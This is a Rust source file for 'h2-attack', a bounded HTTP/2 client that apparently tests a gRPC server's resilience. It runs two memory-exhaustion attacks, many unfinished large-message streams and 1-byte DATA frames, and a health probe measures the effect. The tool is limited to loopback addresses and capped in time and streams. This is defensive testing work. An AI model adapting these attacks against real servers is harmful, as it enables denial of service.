//! `h2-attack --addr 127.0.0.1:PORT --attack many-streams|tiny-frames|probe [--seconds N]
//! [--streams N]`: a raw HTTP/2 client that runs one memory attack against a gRPC server on
//! loopback for a bounded time, then prints what it did and what the server answered.
//!
//! - `many-streams` (default 1,000 streams): each stream starts a UnaryCall whose 5-byte gRPC
//!   prefix declares just under 4 MiB, then sends its body as far as the flow-control windows
//!   allow (WINDOW_UPDATEs honoured), never finishing the message.
//! - `tiny-frames` (default 100 streams): each stream declares a 1 MiB message and sends its
//!   body as 1-byte DATA frames, round robin, never finishing it.
//! - `probe`: the health probe, not an attack: a unary EmptyCall every 200 ms on its own
//!   connection; prints the number of probes, the failures and the worst latency.
//!
//! Only loopback targets are accepted; streams, seconds and bytes are all capped, and the
//! tool exits (closing its connection) when the time is up. Flags may be written
//! `--name value` or `--name=value`.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream, ToSocketAddrs};
use std::process::ExitCode;
use std::sync::mpsc::{self, RecvTimeoutError, Sender};
use std::time::{Duration, Instant};

use anygrpc_core::frame::{
    Frame, FrameHeader, Settings, WindowUpdate, encode_data_header, encode_header_block,
};
use anygrpc_core::hpack::{Decoder, Encoder, Sensitivity};
use anygrpc_core::{CLIENT_PREFACE, ErrorCode, StreamId};
use bytes::{BufMut, Bytes, BytesMut};

const UNARY_CALL: &str = "/grpc.testing.TestService/UnaryCall";
const EMPTY_CALL: &str = "/grpc.testing.TestService/EmptyCall";
/// The longest run accepted.
const MAX_SECONDS: u64 = 300;
/// The most streams accepted: the server's default concurrency limit.
const MAX_STREAMS: u32 = 1024;
/// The RFC 9113 default window, before any SETTINGS or WINDOW_UPDATE.
const DEFAULT_WINDOW: i64 = 65_535;
/// Bytes written per batch.
const BATCH: usize = 64 << 10;
/// Zeros to copy message bodies from.
static ZEROS: [u8; 1 << 16] = [0; 1 << 16];

fn main() -> ExitCode {
    match parse(std::env::args().skip(1)).and_then(run) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("h2-attack: {e}");
            ExitCode::FAILURE
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Attack {
    ManyStreams,
    TinyFrames,
    Probe,
}

#[derive(Debug)]
struct Options {
    addr: SocketAddr,
    attack: Attack,
    seconds: u64,
    streams: u32,
}

fn parse(args: impl IntoIterator<Item = String>) -> Result<Options, String> {
    let mut args = args.into_iter();
    let (mut addr, mut attack, mut seconds, mut streams) = (None, None, 10, None);
    while let Some(arg) = args.next() {
        let flag = arg
            .strip_prefix("--")
            .ok_or_else(|| format!("unexpected argument {arg:?}"))?;
        let (name, value) = match flag.split_once('=') {
            Some((name, value)) => (name.to_string(), value.to_string()),
            None => (
                flag.to_string(),
                args.next()
                    .ok_or_else(|| format!("--{flag} needs a value"))?,
            ),
        };
        let number = |max: u64| match value.parse::<u64>() {
            Ok(n) if (1..=max).contains(&n) => Ok(n),
            _ => Err(format!("--{name}={value}: expected 1..={max}")),
        };
        match name.as_str() {
            "addr" => addr = Some(loopback(&value)?),
            "attack" => {
                attack = Some(match value.as_str() {
                    "many-streams" => Attack::ManyStreams,
                    "tiny-frames" => Attack::TinyFrames,
                    "probe" => Attack::Probe,
                    _ => return Err(format!("--attack={value}: many-streams|tiny-frames|probe")),
                })
            }
            "seconds" => seconds = number(MAX_SECONDS)?,
            "streams" => streams = Some(number(MAX_STREAMS.into())? as u32),
            _ => return Err(format!("unknown flag --{name}")),
        }
    }
    let attack = attack.ok_or("--attack is required")?;
    Ok(Options {
        addr: addr.ok_or("--addr is required")?,
        attack,
        seconds,
        streams: streams.unwrap_or(if attack == Attack::TinyFrames {
            100
        } else {
            1000
        }),
    })
}

/// Resolves `value`, refusing any address that is not loopback.
fn loopback(value: &str) -> Result<SocketAddr, String> {
    let addrs: Vec<SocketAddr> = value
        .to_socket_addrs()
        .map_err(|e| format!("--addr={value}: {e}"))?
        .collect();
    match addrs.iter().find(|a| !a.ip().is_loopback()) {
        Some(other) => Err(format!("--addr={value}: {other} is not a loopback address")),
        None => addrs
            .first()
            .copied()
            .ok_or_else(|| format!("--addr={value}: no address")),
    }
}

fn run(options: Options) -> Result<(), String> {
    let deadline = Instant::now() + Duration::from_secs(options.seconds);
    match options.attack {
        Attack::Probe => probe(options.addr, deadline),
        Attack::ManyStreams => attack(options, 4_194_000, BATCH),
        Attack::TinyFrames => attack(options, 1 << 20, 1),
    }
}

// ---- The wire ----

/// Reads whole frames from a socket.
struct FrameReader {
    io: TcpStream,
    buf: BytesMut,
}

impl FrameReader {
    /// The next frame; `Ok(None)` once the server closed.
    fn next(&mut self) -> std::io::Result<Option<Frame>> {
        loop {
            if let Some(header) = FrameHeader::peek(&self.buf) {
                let total = FrameHeader::LEN + header.length as usize;
                if self.buf.len() >= total {
                    let payload = self
                        .buf
                        .split_to(total)
                        .freeze()
                        .split_off(FrameHeader::LEN);
                    return Frame::decode(header, payload)
                        .map(Some)
                        .map_err(|e| std::io::Error::other(format!("bad frame: {e:?}")));
                }
            }
            let mut chunk = [0; 16 << 10];
            match self.io.read(&mut chunk) {
                Ok(0) => return Ok(None),
                Ok(n) => self.buf.extend_from_slice(&chunk[..n]),
                Err(e) if e.kind() == ErrorKind::Interrupted => {}
                Err(e) => return Err(e),
            }
        }
    }
}

/// Connects, writes the preface and empty SETTINGS, and reads the server's SETTINGS (which it
/// acknowledges). Returns the socket, a reader on it, and the server's SETTINGS.
fn handshake(addr: SocketAddr) -> Result<(TcpStream, FrameReader, Settings), String> {
    let mut io = TcpStream::connect(addr).map_err(|e| format!("connect to {addr}: {e}"))?;
    io.set_nodelay(true).map_err(|e| e.to_string())?;
    io.set_read_timeout(Some(Duration::from_secs(5)))
        .map_err(|e| e.to_string())?;
    let mut out = BytesMut::from(&CLIENT_PREFACE[..]);
    Frame::Settings(Settings::default()).encode(&mut out);
    io.write_all(&out)
        .map_err(|e| format!("write preface: {e}"))?;
    let mut reader = FrameReader {
        io: io.try_clone().map_err(|e| e.to_string())?,
        buf: BytesMut::new(),
    };
    loop {
        match reader.next() {
            Ok(Some(Frame::Settings(s))) if !s.ack => {
                let mut ack = BytesMut::new();
                Frame::Settings(Settings::ack()).encode(&mut ack);
                io.write_all(&ack).map_err(|e| e.to_string())?;
                return Ok((io, reader, s));
            }
            Ok(Some(_)) => {}
            Ok(None) => return Err("the server closed during the handshake".into()),
            Err(e) => return Err(format!("handshake: {e}")),
        }
    }
}

/// A request head for `path`, HPACK-encoded.
fn request_block(encoder: &mut Encoder, path: &str) -> BytesMut {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "127.0.0.1"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    let mut block = BytesMut::new();
    encoder.encode(
        fields
            .iter()
            .map(|(n, v)| (n.as_bytes(), v.as_bytes(), Sensitivity::Normal)),
        &mut block,
    );
    block
}

/// A gRPC message prefix declaring `len` bytes, uncompressed.
fn prefix(len: u32) -> [u8; 5] {
    let [a, b, c, d] = len.to_be_bytes();
    [0, a, b, c, d]
}

// ---- The attacks ----

/// What the reader thread saw, for the writer.
enum Seen {
    Settings(Settings),
    Ping([u8; 8]),
    Window(u32, u32),
    Reset(u32, ErrorCode),
    Ended(u32),
    GoAway(ErrorCode, Bytes),
    Closed(String),
}

/// Forwards what the server writes to the attack loop until the connection ends.
fn read_events(mut reader: FrameReader, to: Sender<Seen>) {
    // The attack sees no response while it runs; long reads only wait.
    let _ = reader.io.set_read_timeout(None);
    loop {
        let seen = match reader.next() {
            Ok(Some(Frame::Settings(s))) if !s.ack => Seen::Settings(s),
            Ok(Some(Frame::Ping(p))) if !p.ack => Seen::Ping(p.payload),
            Ok(Some(Frame::WindowUpdate(w))) => Seen::Window(w.stream.0, w.increment),
            Ok(Some(Frame::RstStream(r))) => Seen::Reset(r.stream.0, r.code),
            Ok(Some(Frame::Headers(h))) if h.end_stream => Seen::Ended(h.stream.0),
            Ok(Some(Frame::GoAway(g))) => Seen::GoAway(g.code, g.debug),
            Ok(Some(_)) => continue,
            Ok(None) => Seen::Closed("closed by the server".into()),
            Err(e) => Seen::Closed(e.to_string()),
        };
        let last = matches!(seen, Seen::Closed(_));
        if to.send(seen).is_err() || last {
            return;
        }
    }
}

/// One stream of an attack.
struct Stream {
    id: u32,
    window: i64,
    /// Body bytes still to send; the last one never is.
    left: u32,
    open: bool,
}

/// What the server did to the attack.
#[derive(Default)]
struct Tally {
    payload: u64,
    frames: u64,
    reset: u32,
    refused: u32,
    ended: u32,
    goaway: Option<(ErrorCode, Bytes)>,
    closed: Option<String>,
}

/// Opens `options.streams` streams declaring `declared` bytes each, then sends their bodies in
/// DATA frames of at most `chunk` bytes as the windows allow, until the deadline or the end of
/// the connection.
fn attack(options: Options, declared: u32, chunk: usize) -> Result<(), String> {
    let started = Instant::now();
    let deadline = started + Duration::from_secs(options.seconds);
    let (io, reader, settings) = handshake(options.addr)?;
    let mut writer = Writer { io };
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || read_events(reader, tx));

    let mut initial = settings
        .initial_window_size
        .map_or(DEFAULT_WINDOW, i64::from);
    let max_frame = settings.max_frame_size.unwrap_or(16_384) as usize;
    let chunk = chunk.min(max_frame).min(ZEROS.len());
    let mut connection = DEFAULT_WINDOW;
    let mut tally = Tally::default();
    let mut encoder = Encoder::new();
    let mut streams: Vec<Stream> = (0..options.streams)
        .map(|i| Stream {
            id: 1 + 2 * i,
            window: initial,
            left: declared - 1,
            open: true,
        })
        .collect();

    // Every request head and its message prefix, in one burst.
    let mut out = BytesMut::new();
    for stream in &mut streams {
        let block = request_block(&mut encoder, UNARY_CALL);
        encode_header_block(StreamId(stream.id), false, &block, max_frame, &mut out);
        encode_data_header(StreamId(stream.id), 5, false, &mut out);
        out.put_slice(&prefix(declared));
        stream.window -= 5;
        connection -= 5;
        tally.payload += 5;
        tally.frames += 1;
    }
    let mut ok = writer.send(&out, deadline);

    let mut next = 0;
    while ok && Instant::now() < deadline && tally.closed.is_none() {
        // Apply what the server said; wait for it when the windows are shut.
        let sendable = streams.iter().any(|s| s.open && s.window > 0 && s.left > 0);
        let mut wait = connection <= 0 || !sendable;
        loop {
            let seen = if wait {
                match rx.recv_timeout(deadline.saturating_duration_since(Instant::now())) {
                    Ok(seen) => seen,
                    Err(RecvTimeoutError::Timeout) => break,
                    Err(RecvTimeoutError::Disconnected) => {
                        tally.closed.get_or_insert("reader ended".into());
                        break;
                    }
                }
            } else {
                match rx.try_recv() {
                    Ok(seen) => seen,
                    Err(_) => break,
                }
            };
            wait = false;
            out.clear();
            match seen {
                Seen::Settings(s) => {
                    if let Some(size) = s.initial_window_size {
                        let delta = i64::from(size) - initial;
                        initial = i64::from(size);
                        streams.iter_mut().for_each(|st| st.window += delta);
                    }
                    Frame::Settings(Settings::ack()).encode(&mut out);
                }
                Seen::Ping(payload) => {
                    Frame::Ping(anygrpc_core::frame::Ping::new(payload).pong()).encode(&mut out)
                }
                Seen::Window(0, n) => connection += i64::from(n),
                Seen::Window(id, n) => {
                    if let Some(st) = stream_mut(&mut streams, id) {
                        st.window += i64::from(n);
                    }
                }
                Seen::Reset(id, code) => {
                    if let Some(st) = stream_mut(&mut streams, id).filter(|s| s.open) {
                        st.open = false;
                        if code == ErrorCode::REFUSED_STREAM {
                            tally.refused += 1;
                        } else {
                            tally.reset += 1;
                        }
                    }
                }
                Seen::Ended(id) => {
                    if let Some(st) = stream_mut(&mut streams, id).filter(|s| s.open) {
                        st.open = false;
                        tally.ended += 1;
                    }
                }
                Seen::GoAway(code, debug) => tally.goaway = Some((code, debug)),
                Seen::Closed(why) => tally.closed = Some(why),
            }
            if !out.is_empty() {
                ok &= writer.send(&out, deadline);
            }
        }

        // One batch of body bytes, round robin over the streams with window left.
        out.clear();
        let (mut idle, count) = (0, streams.len());
        while out.len() < BATCH && connection > 0 && idle < count {
            let st = &mut streams[next];
            next = (next + 1) % count;
            let n = (chunk as i64)
                .min(st.window)
                .min(connection)
                .min(i64::from(st.left));
            if !st.open || n <= 0 {
                idle += 1;
                continue;
            }
            idle = 0;
            encode_data_header(StreamId(st.id), n as u32, false, &mut out);
            out.put_slice(&ZEROS[..n as usize]);
            st.window -= n;
            st.left -= n as u32;
            connection -= n;
            tally.payload += n as u64;
            tally.frames += 1;
        }
        if !out.is_empty() {
            ok &= writer.send(&out, deadline);
        }
    }
    if !ok && tally.closed.is_none() {
        tally.closed = Some("writing failed".into());
    }
    report(&options, started.elapsed(), &tally);
    Ok(())
}

fn stream_mut(streams: &mut [Stream], id: u32) -> Option<&mut Stream> {
    streams.get_mut(usize::try_from(id.checked_sub(1)? / 2).ok()?)
}

fn report(options: &Options, took: Duration, tally: &Tally) {
    println!(
        "attack={:?} addr={} streams={} seconds={:.1}",
        options.attack,
        options.addr,
        options.streams,
        took.as_secs_f64()
    );
    println!(
        "payload_bytes_sent={} data_frames_sent={}",
        tally.payload, tally.frames
    );
    println!(
        "streams_reset={} streams_refused={} streams_ended_by_server={}",
        tally.reset, tally.refused, tally.ended
    );
    match &tally.goaway {
        Some((code, debug)) => {
            println!("goaway={code:?} debug={:?}", String::from_utf8_lossy(debug))
        }
        None => println!("goaway=none"),
    }
    println!(
        "connection={}",
        tally.closed.as_deref().unwrap_or("open until the end")
    );
}

/// Writes batches, retrying partial writes until a deadline: a server that stops reading
/// stalls the attack instead of hanging it.
struct Writer {
    io: TcpStream,
}

impl Writer {
    /// Writes all of `bytes` before `deadline`; `false` if the connection failed or the time
    /// ran out mid-write.
    fn send(&mut self, mut bytes: &[u8], deadline: Instant) -> bool {
        let _ = self.io.set_write_timeout(Some(Duration::from_millis(100)));
        while !bytes.is_empty() {
            match self.io.write(bytes) {
                Ok(0) => return false,
                Ok(n) => bytes = &bytes[n..],
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                    if Instant::now() >= deadline {
                        return false;
                    }
                }
                Err(e) if e.kind() == ErrorKind::Interrupted => {}
                Err(_) => return false,
            }
        }
        true
    }
}

// ---- The probe ----

/// A unary EmptyCall every 200 ms until the deadline, on its own connection (a new one after a
/// failure); prints the count, the failures and the worst latency.
fn probe(addr: SocketAddr, deadline: Instant) -> Result<(), String> {
    let interval = Duration::from_millis(200);
    let (mut probes, mut failures, mut worst, mut total) = (0u32, 0u32, Duration::ZERO, 0.0);
    let mut connection: Option<ProbeConnection> = None;
    while Instant::now() < deadline {
        let started = Instant::now();
        let result = match connection.as_mut() {
            Some(c) => c.call(),
            None => ProbeConnection::open(addr).and_then(|c| connection.insert(c).call()),
        };
        let took = started.elapsed();
        probes += 1;
        total += took.as_secs_f64();
        worst = worst.max(took);
        if let Err(e) = result {
            failures += 1;
            eprintln!("probe {probes}: {e} after {took:?}");
            connection = None;
        }
        std::thread::sleep(interval.saturating_sub(took));
    }
    println!(
        "probes={probes} failures={failures} max_latency_ms={:.1} mean_latency_ms={:.1}",
        worst.as_secs_f64() * 1e3,
        total * 1e3 / f64::from(probes.max(1))
    );
    Ok(())
}

struct ProbeConnection {
    io: TcpStream,
    reader: FrameReader,
    encoder: Encoder,
    decoder: Decoder,
    next_id: u32,
}

impl ProbeConnection {
    fn open(addr: SocketAddr) -> Result<Self, String> {
        let (io, reader, _) = handshake(addr)?;
        Ok(Self {
            io,
            reader,
            encoder: Encoder::new(),
            decoder: Decoder::new(4096),
            next_id: 1,
        })
    }

    /// One EmptyCall; `Ok` once its trailers say `grpc-status: 0`.
    fn call(&mut self) -> Result<(), String> {
        let id = self.next_id;
        self.next_id += 2;
        let mut out = BytesMut::new();
        let block = request_block(&mut self.encoder, EMPTY_CALL);
        encode_header_block(StreamId(id), false, &block, 16_384, &mut out);
        encode_data_header(StreamId(id), 5, true, &mut out);
        out.put_slice(&prefix(0));
        self.io.write_all(&out).map_err(|e| format!("write: {e}"))?;
        let mut block: Option<(u32, bool, BytesMut)> = None;
        loop {
            let frame = match self.reader.next() {
                Ok(Some(frame)) => frame,
                Ok(None) => return Err("connection closed".into()),
                Err(e) => return Err(format!("read: {e}")),
            };
            let mut reply = BytesMut::new();
            match frame {
                Frame::Headers(h) => {
                    block = Some((h.stream.0, h.end_stream, BytesMut::from(&h.fragment[..])));
                    if !h.end_headers {
                        continue;
                    }
                }
                Frame::Continuation(c) => {
                    let Some((_, _, b)) = block.as_mut() else {
                        return Err("CONTINUATION without HEADERS".into());
                    };
                    b.extend_from_slice(&c.fragment);
                    if !c.end_headers {
                        continue;
                    }
                }
                Frame::Ping(p) if !p.ack => Frame::Ping(p.pong()).encode(&mut reply),
                Frame::Settings(s) if !s.ack => Frame::Settings(Settings::ack()).encode(&mut reply),
                Frame::Data(d) if !d.data.is_empty() => {
                    // Give back what the reply used, so the windows never close.
                    let n = d.data.len() as u32;
                    for stream in [0, d.stream.0] {
                        Frame::WindowUpdate(WindowUpdate {
                            stream: StreamId(stream),
                            increment: n,
                        })
                        .encode(&mut reply);
                    }
                }
                Frame::RstStream(r) if r.stream.0 == id => {
                    return Err(format!("stream reset: {:?}", r.code));
                }
                Frame::GoAway(g) => return Err(format!("GOAWAY {:?}", g.code)),
                _ => {}
            }
            if !reply.is_empty() {
                self.io
                    .write_all(&reply)
                    .map_err(|e| format!("write: {e}"))?;
                continue;
            }
            // A complete header block: decode it (the HPACK table must follow every one).
            let Some((stream, end_stream, bytes)) = block.take() else {
                continue;
            };
            let mut status = None;
            self.decoder
                .decode(&bytes.freeze(), usize::MAX, |f| {
                    if &f.name[..] == b"grpc-status" {
                        status = Some(String::from_utf8_lossy(&f.value).into_owned());
                    }
                })
                .map_err(|e| format!("HPACK: {e:?}"))?;
            if stream == id && end_stream {
                return match status.as_deref() {
                    Some("0") => Ok(()),
                    other => Err(format!("grpc-status {other:?}")),
                };
            }
        }
    }
}
